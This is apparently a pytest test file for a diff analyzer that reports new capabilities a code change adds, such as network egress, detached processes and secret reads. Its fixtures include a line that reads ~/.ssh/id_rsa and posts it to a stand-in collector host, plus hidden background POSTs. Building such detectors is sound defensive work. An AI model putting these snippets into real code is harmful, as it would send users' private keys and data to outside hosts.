"""The capability model: what a change adds (delta) in every format, refactors that add nothing,
`allowed-hosts`, propagation across calls, threads and files, and its bounds."""

from __future__ import annotations

import json
import time
from pathlib import Path

import libcst
import pytest
from click.testing import CliRunner

from analyzer import config
from analyzer.cli import main
from analyzer.engines.cst.capabilities import delta, facts, graph
from analyzer.engines.cst.capabilities.summary import summarise
from analyzer.sources import Project
from tests.gitrepo import git

BEFORE = '''import json


def ship(data):
    return json.dumps(data)


def total(xs):
    return sum(x + 1 for x in xs)
'''

ADDS_EGRESS = '''import json
import subprocess
import threading

import requests


def _send(body):
    requests.post("https://collector.example.xyz/v1/ingest", data=body, timeout=3)


def ship(data):
    threading.Thread(target=_send, args=(json.dumps(data),)).start()
    subprocess.Popen(["/usr/local/bin/agent"], start_new_session=True)


def total(xs):
    return sum(x + 1 for x in xs)
'''

HAS_EGRESS = '''import requests


def ship(data):
    requests.post("https://collector.example.xyz/v1/ingest", json=data, timeout=3)
    with open("/tmp/last", "w") as fh:
        fh.write("ok")
'''

# The same powers after renaming, extracting a helper into another file and reformatting.
REFACTORED = {
    "metrics.py": '''from transport import post_json


def ship_metrics(payload):
    post_json(payload)
''',
    "transport.py": '''import requests

ENDPOINT = "https://collector.example.xyz/v1/ingest"


def post_json(body):
    requests.post(
        "https://collector.example.xyz/v1/ingest",
        json=body,
        timeout=3,
    )
    with open("/tmp/last", "w") as handle:
        handle.write("ok")
''',
}


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    git(tmp_path, "init", "-q", "-b", "main")
    (tmp_path / "pyproject.toml").write_text("[tool.diffsentry]\n")
    (tmp_path / "metrics.py").write_text(BEFORE)
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "-qm", "base")
    return tmp_path


def diff_run(repo: Path, *args: str, env: dict | None = None):
    return CliRunner().invoke(main, ["diff", "--base", "HEAD", "--root", str(repo), "--no-cache", *args], env=env,
                              catch_exceptions=False)


def test_delta_of_a_change_that_adds_egress_in_every_format(repo, tmp_path_factory):
    (repo / "metrics.py").write_text(ADDS_EGRESS)
    text = diff_run(repo).output
    head = text.split("metrics.py\n")[0]
    assert "New capabilities in this change" in head  # a section before the findings
    assert "POST to collector.example.xyz in metrics.py:_send (line 9)" in head
    assert "spawns a detached process (/usr/local/bin/agent) in metrics.py:ship (line 14)" in head

    document = json.loads(diff_run(repo, "-f", "json").stdout)
    kinds = {(c["kind"], c["path"], c["line"], c["detail"]) for c in document["capabilities"]}
    assert ("network-egress", "metrics.py", 9, "POST to collector.example.xyz") in kinds
    assert ("process-spawn", "metrics.py", 14, "spawns a detached process (/usr/local/bin/agent)") in kinds

    sarif = json.loads(diff_run(repo, "-f", "sarif").output)
    assert sarif["runs"][0]["properties"]["capabilities"] == document["capabilities"]

    summary = tmp_path_factory.mktemp("gh") / "summary.md"
    diff_run(repo, "-f", "github", env={"GITHUB_STEP_SUMMARY": str(summary)})
    markdown = summary.read_text()
    assert "### New capabilities in this change" in markdown
    assert "POST to collector.example.xyz in metrics.py:_send (line 9)" in markdown


def test_a_pure_refactor_adds_no_capability(repo, tmp_path_factory):
    (repo / "metrics.py").write_text(HAS_EGRESS)
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "egress exists before")
    for name, text in REFACTORED.items():
        (repo / name).write_text(text)
    document = json.loads(diff_run(repo, "-f", "json").stdout)
    assert document["capabilities"] == []
    assert "New capabilities" not in diff_run(repo).output
    assert json.loads(diff_run(repo, "-f", "sarif").stdout)["runs"][0]["properties"]["capabilities"] == []
    summary = tmp_path_factory.mktemp("gh") / "summary.md"
    diff_run(repo, "-f", "github", env={"GITHUB_STEP_SUMMARY": str(summary)})
    assert summary.read_text().startswith("## diffsentry") and "New capabilities" not in summary.read_text()


def test_scan_mode_has_no_delta(repo):
    (repo / "metrics.py").write_text(ADDS_EGRESS)
    result = CliRunner().invoke(main, ["scan", str(repo), "--no-cache", "-f", "json"], catch_exceptions=False)
    assert json.loads(result.output)["capabilities"] == []


def test_allowed_hosts_are_not_new(repo):
    (repo / "pyproject.toml").write_text('[tool.diffsentry]\nallowed-hosts = ["example.xyz"]\n')
    git(repo, "commit", "-qam", "expected telemetry host")
    (repo / "metrics.py").write_text(ADDS_EGRESS)
    kinds = {c["kind"] for c in json.loads(diff_run(repo, "-f", "json").stdout)["capabilities"]}
    assert "network-egress" not in kinds and "process-spawn" in kinds


@pytest.mark.parametrize("value", ['"https://x.example.com/"', '["x.example.com:443"]', "[1]", '["*.example.com"]'])
def test_bad_allowed_hosts_name_the_key(tmp_path, value):
    with pytest.raises(config.ConfigError, match=r"allowed-hosts"):
        config.parse(f"[tool.diffsentry]\nallowed-hosts = {value}\n", tmp_path / "pyproject.toml")


def test_delta_compares_kinds_and_details_not_lines():
    before = {"a.py": HAS_EGRESS}
    after = {"a.py": "\n\n" + HAS_EGRESS.replace("requests.post(", "requests.post(  # moved\n    ")}
    assert delta.compute(before, after) == ()
    added = delta.compute({"a.py": None}, {"a.py": HAS_EGRESS})
    assert [(c.kind, c.function) for c in added] == [("network-egress", "ship")]


HELPER = '''import requests

HOST = "https://collector.example.xyz/v1"


def ship(data):
    requests.post(HOST, data=data, timeout=3)


def backup():
    return "nothing to do"
'''
# The change adds only a call to the existing network helper, with SSH keys as its argument.
CALLS_HELPER = HELPER.replace('    return "nothing to do"', "    ship(open('~/.ssh/id_rsa').read())")


def test_a_new_call_to_an_existing_network_helper_is_new_egress_of_the_caller():
    added = delta.compute({"app.py": HELPER}, {"app.py": CALLS_HELPER})
    assert [(c.kind, c.function, c.line, c.detail, c.via) for c in added] == [
        ("network-egress", "backup", 11, "POST to collector.example.xyz", "ship"),
        ("secret-read", "backup", 11, "reads SSH keys", ""),
    ]
    assert added[0].sentence == "POST to collector.example.xyz (through `ship`) in app.py:backup (line 11)"
    assert added[0].as_dict()["via"] == "ship"
    # a new function counts too when the power comes from a function that existed before
    nightly = HELPER + "\n\ndef nightly():\n    ship(b'x')\n"
    assert [(c.function, c.via) for c in delta.compute({"app.py": HELPER}, {"app.py": nightly})] == [("nightly", "ship")]


def test_a_new_call_to_an_existing_helper_in_a_diff_fires_a_combination_and_lists_the_delta(repo):
    (repo / "app.py").write_text(HELPER)
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "helper exists")
    (repo / "app.py").write_text(CALLS_HELPER)
    document = json.loads(diff_run(repo, "-f", "json").stdout)
    assert {(c["kind"], c["function"], c.get("via")) for c in document["capabilities"]} == {
        ("network-egress", "backup", "ship"), ("secret-read", "backup", None)}
    assert [(f["rule_id"], f["start_line"]) for f in document["findings"] if f["rule_id"] == "DS125"] == [
        ("DS125", 11)]


@pytest.mark.parametrize("after", [
    HELPER.replace("def ship(", "def send(").replace("ship(", "send("),  # renamed
    HELPER.replace("    requests.post(HOST, data=data, timeout=3)", "    _post(data)\n\n\ndef _post(body):\n"
                   "    requests.post(HOST, data=body, timeout=3)"),  # extracted into a new helper
    HELPER.replace("    return \"nothing to do\"", "    requests.post(HOST, data=b'', timeout=3)").replace(
        "def ship(data):\n    requests.post(HOST, data=data, timeout=3)", "def ship(data):\n    backup()"),  # moved
])
def test_moving_code_between_functions_with_the_same_reachable_powers_adds_nothing(after):
    before = HELPER.replace('    return "nothing to do"', "    ship(b'')")
    after = after.replace('    return "nothing to do"', "    ship(b'')") if "nothing" in after else after
    assert delta.compute({"app.py": before}, {"app.py": after}) == ()


def _index(files: dict[str, str]) -> graph.Index:
    project = Project(Path("/nonexistent"), files)
    index = graph.Index(project)
    for path in files:
        index.summary(path)
    return index


def test_propagation_through_self_threads_executors_hooks_and_files():
    files = {
        "pkg/__init__.py": "",
        "pkg/net.py": "import requests\ndef post(x):\n    requests.post('http://203.0.113.7/c', data=x)\n",
        "pkg/app.py": (
            "import atexit, logging, threading\nfrom concurrent.futures import ThreadPoolExecutor\n"
            "from .net import post\n"
            "class H(logging.Handler):\n    def emit(self, record):\n        self._go(record)\n"
            "    def _go(self, r):\n        threading.Thread(target=post, args=(r,)).start()\n"
            "def via_executor():\n    ThreadPoolExecutor().submit(post, 1)\n"
            "def via_atexit():\n    atexit.register(post)\n"
            "def via_class():\n    logging.getLogger().addHandler(H())\n"
        ),
    }
    index = _index(files)
    app = index.summary("pkg/app.py")
    for name in ("H.emit", "via_executor", "via_atexit", "via_class"):
        reached = index.reach(app.scopes[name], {facts.EGRESS})
        assert [r.fact.host for r in reached] == ["203.0.113.7"], name
        assert reached[0].scope.path == "pkg/net.py"


def test_reach_is_bounded_on_a_large_generated_module():
    n = 3000
    body = "import requests\n" + "".join(
        f"def f{i}():\n    f{(i + 1) % n}()\n    f{(i * 7 + 3) % n}()\n" for i in range(n)
    ) + "def f_end():\n    requests.post('http://203.0.113.7/x')\n"
    module = libcst.parse_module(body)
    index = graph.Index(None)
    summary = summarise("gen.py", module)
    index.add(summary)
    start = time.perf_counter()
    for name in ("f0", "f1", "f2999"):
        reached = index.reach(summary.scopes[name], {facts.EGRESS})
        assert all(len(r.hops) <= graph.MAX_DEPTH for r in reached)
    assert time.perf_counter() - start < 5  # three bounded walks, not a walk of 3000 functions each
    assert len(index._resolved) <= 3 * graph.MAX_SCOPES
